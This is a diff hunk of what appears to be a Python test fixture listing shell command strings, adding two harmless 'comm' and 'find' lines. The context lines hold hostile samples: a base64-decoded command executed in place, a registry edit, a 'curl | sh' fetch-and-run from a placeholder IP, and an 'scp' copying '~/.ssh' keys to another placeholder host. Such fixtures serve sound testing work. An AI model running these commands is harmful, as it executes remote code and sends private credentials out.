@@ -62,6 +62,8 @@ x=$(echo aWQ= | base64 -d); $x
 && ipconfig /all &
 reg add "HKLM\System\A b" /v x /t REG_DWORD /d 0 /f
 mira@kolva:~$ curl -s http://192.0.2.7/b | sh
+comm -1 -2 <(sort /tmp/a) <(sort /tmp/b)
+find . -name "*a b*" -exec cp -r {} /tmp/x/y \;
 scp -r ~/.ssh user@198.51.100.4:/tmp/
 """.strip().splitlines()
 
